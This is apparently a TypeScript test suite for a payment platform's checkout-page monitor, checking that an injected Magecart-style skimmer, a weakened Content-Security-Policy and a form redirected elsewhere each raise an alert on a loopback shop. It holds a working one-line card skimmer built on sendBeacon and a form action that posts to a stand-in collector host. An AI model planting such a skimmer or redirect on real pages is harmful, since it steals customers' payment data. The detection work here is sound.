import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { PAGE_ALERT_EVENT } from '../src/pagewatch/index.ts';
import { NO_CHROMIUM } from './helpers/browser.ts';
import { freePort } from './helpers/free-port.ts';
import { ownerOf } from './helpers/merchant-team.ts';
import { payPlatform, idem, type PayPlatform } from './helpers/payments-platform.ts';

// Attack: Magecart-style skimming. Whoever gets write access to a merchant's checkout (a
// plugin, a CDN, a stolen CMS password — ApparelX's checkout in 2021) adds a script that
// copies what the customer types. PCI DSS 11.6.1 asks for the change to be caught as the
// browser receives the page. Here a shop on loopback is registered, loaded in Chromium and
// approved; a skimmer is added and the very next pass raises the alert: an incident, a
// webhook event, an email to the merchant and an entry with the difference. The same for a
// weakened Content-Security-Policy and a form posting elsewhere; unchanged pages stay quiet.

const skip = NO_CHROMIUM;

interface Shop {
  origin: string;
  csp: string;
  skimmer: boolean;
  formAction: string;
  close(): Promise<void>;
}

const SKIMMER =
  "document.addEventListener('input', e => navigator.sendBeacon('/c', e.target.value));";

async function startShop(): Promise<Shop> {
  const shop = {
    origin: '',
    csp: "default-src 'self'; script-src 'self' 'unsafe-inline'",
    skimmer: false,
    formAction: '/order',
    close: async (): Promise<void> => undefined,
  };
  const server = http.createServer((req, res) => {
    if (req.url === '/app.js') {
      res.writeHead(200, { 'content-type': 'application/javascript' });
      res.end("window.shop = 'ok';");
      return;
    }
    if (req.url === '/skim.js') {
      res.writeHead(200, { 'content-type': 'application/javascript' });
      res.end(SKIMMER);
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': shop.csp });
    res.end(`<!doctype html><html><body><h1>Checkout</h1>
<form action="${shop.formAction}" method="post"><input name="card"></form>
<script src="/app.js"></script>
<script>window.started = true;</script>
${shop.skimmer ? '<script src="/skim.js"></script>' : ''}
</body></html>`);
  });
  const port = await freePort();
  await new Promise<void>((r) => server.listen(port, '127.0.0.1', r));
  shop.origin = `http://127.0.0.1:${port}`;
  shop.close = () => new Promise<void>((r) => server.close(() => r()));
  return shop;
}

let p: PayPlatform;
let shop: Shop;
let bearer: { authorization: string };

before(async () => {
  if (skip) return;
  p = await payPlatform({
    env: { KINKO_PAGEWATCH_ALLOW_LOOPBACK: '1', KINKO_PAGEWATCH_SETTLE_MS: '100' },
  });
  shop = await startShop();
  bearer = { authorization: `Bearer ${p.merchant.secretKey}` };
  await ownerOf(p, p.merchant.merchantId, 'owner@yamada.example');
});
after(async () => {
  if (skip) return;
  await shop.close();
  await p.close();
});

async function api(method: 'GET' | 'POST', url: string, payload?: object) {
  const res = await p.app.inject({
    method,
    url,
    headers: { ...bearer, ...(method === 'POST' ? idem() : {}) },
    ...(payload ? { payload } : {}),
  });
  assert.ok(res.statusCode < 300, `${method} ${url}: ${res.statusCode} ${res.body}`);
  return res.json();
}

async function pass() {
  const r = await p.jobs.pagewatchPass();
  assert.equal(r.status.monitoring, 'on');
  return r;
}

async function approveLatest(pageId: string) {
  const view = await api('GET', `/v1/pages/${pageId}`);
  return api('POST', `/v1/pages/${pageId}/approve`, {
    observation_id: view.latest.id,
    reason: 'what our checkout serves today',
  });
}

test('a skimmer added to an approved checkout page alerts within one pass', { skip }, async () => {
  const page = await api('POST', '/v1/pages', {
    url: `${shop.origin}/checkout`,
    label: 'Checkout',
  });
  assert.equal((await pass()).checked >= 1, true);
  const first = await api('GET', `/v1/pages/${page.id}`);
  assert.equal(first.state, 'awaiting_approval', JSON.stringify(first));
  const urls = first.latest.inventory.scripts.map((s: { url: string }) => s.url);
  assert.ok(urls.includes(`${shop.origin}/app.js`), urls.join());
  assert.ok(urls.includes(''), 'the inline script is recorded by its hash');
  assert.deepEqual(first.latest.inventory.form_actions, [`${shop.origin}/order`]);
  assert.equal((await approveLatest(page.id)).state, 'approved');

  // Unchanged: several passes, no alert.
  for (let i = 0; i < 3; i++) assert.equal((await pass()).alerts, 0);
  assert.equal((await api('GET', `/v1/pages/${page.id}`)).state, 'approved');
  assert.equal((await api('GET', '/v1/page_alerts')).data.length, 0);

  shop.skimmer = true;
  const r = await pass();
  assert.equal(r.alerts, 1, 'the alert fires on the first pass after the change');
  const changed = await api('GET', `/v1/pages/${page.id}`);
  assert.equal(changed.state, 'changed');
  assert.deepEqual(
    changed.difference.scripts_added.map((s: { url: string }) => s.url),
    [`${shop.origin}/skim.js`],
  );
  const alerts = (await api('GET', '/v1/page_alerts')).data;
  assert.equal(alerts.length, 1);
  assert.equal(alerts[0].page_id, page.id);

  const incidents = await p.db.sql<{ id: string; severity: string }[]>`
    select r.id, r.severity from incidents_records r where r.title = ${'Payment page changed: ' + page.url}`;
  assert.equal(incidents.length, 1);
  assert.equal(incidents[0]!.severity, 'critical');
  const events = await p.db.sql`select body from webhooks_events
    where merchant_id = ${p.merchant.merchantId} and type = ${PAGE_ALERT_EVENT}`;
  assert.equal(events.length, 1);
  assert.match(String(events[0]!['body']), /skim\.js/);
  const mail = await p.mailbox('owner@yamada.example');
  const alertMail = mail.filter((m) => m.subject.includes('payment page'));
  assert.equal(alertMail.length, 1);
  assert.match(alertMail[0]!.text, /new script .*skim\.js/);

  // The same change seen again is not a new alert; the incident stays the one.
  assert.equal((await pass()).alerts, 0);
  assert.equal((await api('GET', '/v1/page_alerts')).data.length, 1);

  // The merchant says the new script is theirs: approving updates the inventory, audited.
  assert.equal((await approveLatest(page.id)).state, 'approved');
  assert.equal((await pass()).alerts, 0);
  const audits = await p.db.sql`select 1 from audit_entries
    where action = 'pagewatch.inventory.approved' and subject_id = ${page.id}`;
  assert.equal(audits.length, 2);
});

test(
  'a changed CSP header and a new form action each alert, joining the page’s incident',
  { skip },
  async () => {
    const other = await startShop();
    try {
      await cspAndFormAction(other);
    } finally {
      await other.close();
    }
  },
);

async function cspAndFormAction(shop: Shop) {
  const page = await api('POST', '/v1/pages', { url: `${shop.origin}/pay` });
  await pass();
  await approveLatest(page.id);
  shop.csp = "default-src 'self'; script-src * 'unsafe-inline'";
  assert.equal((await pass()).alerts, 1);
  const view = await api('GET', `/v1/pages/${page.id}`);
  assert.equal(view.difference.headers_changed[0].name, 'content-security-policy');
  assert.equal(view.difference.scripts_added.length, 0);

  shop.formAction = 'https://collector.example/steal';
  assert.equal((await pass()).alerts, 1);
  const again = await api('GET', `/v1/pages/${page.id}`);
  assert.deepEqual(again.difference.form_actions_added, ['https://collector.example/steal']);
  const incidents = await p.db.sql`select id from incidents_records
    where title = ${'Payment page changed: ' + page.url}`;
  assert.equal(incidents.length, 1, 'the second alert joins the open incident of the page');
}
